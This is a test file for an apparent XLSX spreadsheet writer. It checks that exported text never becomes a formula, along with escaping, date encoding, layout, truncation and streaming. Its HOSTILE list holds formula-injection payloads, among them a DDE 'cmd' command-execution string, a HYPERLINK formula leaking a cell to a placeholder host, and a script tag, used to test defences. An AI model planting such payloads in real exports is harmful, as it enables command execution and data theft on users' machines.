import { unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { readTable } from '#app/importers/read-table'
import type { CellValue, TableColumn } from '#app/lib/table-cells'
import { columnName } from '#app/lib/xlsx-cells'
import { SHEET_ROWS, xlsxOut } from '#app/lib/xlsx-out'

const text = (title: string): TableColumn => ({ title, kind: 'text', width: 20 })
const AT = '2026-11-20T11:00:00.000Z'

async function written(columns: readonly TableColumn[], ...pages: CellValue[][][]): Promise<Uint8Array> {
  async function* all() {
    yield* pages
  }
  const pieces: Uint8Array[] = []
  for await (const piece of xlsxOut({ name: 'Register', title: 'Register', at: AT, columns }, all())) pieces.push(piece)
  return Buffer.concat(pieces)
}

const partsOf = (file: Uint8Array) =>
  Object.fromEntries(Object.entries(unzipSync(file)).map(([name, bytes]) => [name, new TextDecoder().decode(bytes)]))

/** What a spreadsheet might take for more than words, and what XML or a cell cannot hold as it is. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://example.org/?x="&A1,"click")',
  '+1',
  '-1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  ' =1',
  "'=1",
  '<f>1+1</f>',
  ']]><f>1</f>',
  '&lt;f&gt;&amp;&#61;1',
  '"quoted"',
  '_x003D_1+1',
  '_x000D_',
  'a_x0041_b',
  '<script>alert(1)</script>',
  '候補者 🔥 \u202egnp',
  '007',
  '1e5',
  '2026-11-20',
  'TRUE',
]

test('what people write comes back as the same words through our own reader, and no cell is a formula', async () => {
  const file = await written(
    [text('Nr'), text('Words')],
    HOSTILE.map((words, at) => [`row ${at}`, words]),
  )
  const table = readTable(file, 'register.xlsx')
  if ('refusal' in table || !('rows' in table)) throw new Error(JSON.stringify(table))
  expect(table.rows.map(([, words]) => words)).toEqual(HOSTILE.map((words) => words.trim().replace('\u202e', '')))
  expect(table.notes.join()).not.toContain('formula')
  const { 'xl/worksheets/sheet1.xml': sheet } = partsOf(file)
  expect(sheet).not.toMatch(/<f[\s>/]/)
  expect(sheet).not.toMatch(/t="(str|s|e|b)"/)
  expect(sheet!.match(/t="inlineStr"/g)).toHaveLength(2 + 2 * HOSTILE.length)
})

test('signs that XML cannot hold stand as Excel writes them', async () => {
  const controls = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')
  const { 'xl/worksheets/sheet1.xml': sheet } = partsOf(
    await written([text('A')], [[controls], ['half\ud83d'], ['\uffff']]),
  )
  // biome-ignore lint/suspicious/noControlCharactersInRegex: those are what must not be there
  expect(sheet).not.toMatch(/[\x00-\x08\x0b-\x1f\uffff]/)
  expect(sheet).toContain('_x0000_')
  expect(sheet).toContain('_x000D_')
  expect(sheet).toContain('half\ufffd')
})

test('days are days, instants instants, numbers numbers; what is none of them stays words', async () => {
  const columns: TableColumn[] = [
    { title: 'Day', kind: 'day', width: 12 },
    { title: 'Instant (UTC)', kind: 'instant', width: 20 },
    { title: 'Number', kind: 'number', width: 10 },
    text('Text'),
  ]
  const file = await written(columns, [
    ['2026-11-20', AT, 42, '42'],
    ['not-yet', 'soon', -1.5, '-1.5'],
    ['2026-02-30', '1812-06-24T00:00:00.000Z', Number.NaN, 'last'],
    ['1900-03-01', '2026-11-20T23:59:59.000Z', 0, ''],
  ])
  const { 'xl/worksheets/sheet1.xml': sheet } = partsOf(file)
  expect(sheet).toContain('<c r="A2" s="3"><v>46346</v></c>')
  expect(sheet).toContain('<c r="A5" s="3"><v>61</v></c>')
  expect(sheet).toContain('<c r="C3" s="0"><v>-1.5</v></c>')
  const table = readTable(file, 'register.xlsx')
  if (!('rows' in table)) throw new Error(JSON.stringify(table))
  expect(table.rows).toEqual([
    ['2026-11-20', '2026-11-20T11:00:00', '42', '42'],
    ['not-yet', 'soon', '-1.5', '-1.5'],
    ['2026-02-30', '1812-06-24T00:00:00.000Z', '', 'last'],
    ['1900-03-01', '2026-11-20T23:59:59', '0', ''],
  ])
})

test('an instant is cut to the second it shows, and keeps every digit: LibreOffice showed the second before', async () => {
  const instants = ['2026-11-08T09:12:00.000Z', '2026-11-08T09:12:00.999Z', '2024-02-29T23:59:59.999Z']
  const file = await written(
    [{ title: 'Instant (UTC)', kind: 'instant', width: 20 }],
    instants.map((one) => [one]),
  )
  const { 'xl/worksheets/sheet1.xml': sheet } = partsOf(file)
  const seconds = [...sheet!.matchAll(/s="4"><v>([\d.]+)</g)].map(([, value]) => Number(value) * 86_400)
  for (const [at, one] of instants.entries()) {
    const meant = Math.floor(Date.parse(one) / 1000) + 25_569 * 86_400
    expect(Math.abs(seconds[at]! - meant), one).toBeLessThan(1e-5)
  }
})

test('the head stays in sight, columns have their widths, and the same table is the same bytes', async () => {
  const table = [[text('A'), text('B')], [['x', 'y']]] as const
  const file = await written(
    [...table[0]],
    table[1].map((row) => [...row]),
  )
  const { 'xl/worksheets/sheet1.xml': sheet, 'xl/workbook.xml': workbook } = partsOf(file)
  // LibreOffice shows the filter only where its rows have this name.
  expect(workbook).toMatch(
    /<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">'[^<]+'!\$A\$1:\$B\$2</,
  )
  expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
  expect(sheet).toContain('<col min="2" max="2" width="20" customWidth="1"/>')
  expect(sheet).toContain('<autoFilter ref="A1:B2"/>')
  expect(
    await written(
      [...table[0]],
      table[1].map((row) => [...row]),
    ),
  ).toEqual(file)
  expect([0, 25, 26, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA'])
})

test('a text that no cell can hold is cut, and says so', async () => {
  const { 'xl/worksheets/sheet1.xml': sheet } = partsOf(await written([text('A')], [['x'.repeat(40_000)]]))
  const [, words] = sheet!.match(/<t xml:space="preserve">(x+[^<]*)<\/t>/)!
  expect(words).toHaveLength(32_767)
  expect(words).toMatch(/The CSV file has all of it\.\]$/)
})

test('a row too many is refused rather than lost', async () => {
  const page = Array.from({ length: SHEET_ROWS + 1 }, () => [])
  await expect(written([text('A')], page)).rejects.toThrow('A sheet holds 1048575 rows')
})

test('a long table leaves while it is read: no more of it is held than a page', async () => {
  const page = Array.from({ length: 500 }, (_, at) => [
    `AIS-${at}`,
    'Ranks applications for open positions. '.repeat(5),
    at,
  ])
  const columns = [text('Reference'), text('Words'), { title: 'Nr', kind: 'number', width: 8 } as const]
  let read = 0
  async function* pages() {
    for (; read < 200; read++) yield page
  }
  const sizes: number[] = []
  const readWhen: number[] = []
  for await (const piece of xlsxOut({ name: 'Long', title: 'Long', at: AT, columns }, pages())) {
    sizes.push(piece.length)
    readWhen.push(read)
  }
  expect(read).toBe(200)
  // Half of the file has left by the time half of the table is read, but for what the compression looks back on.
  const half = sizes.filter((_, at) => readWhen[at]! < 110).reduce((sum, size) => sum + size, 0)
  expect(half).toBeGreaterThan(sizes.reduce((sum, size) => sum + size, 0) * 0.45)
  expect(Math.max(...sizes)).toBeLessThan(200_000)
})
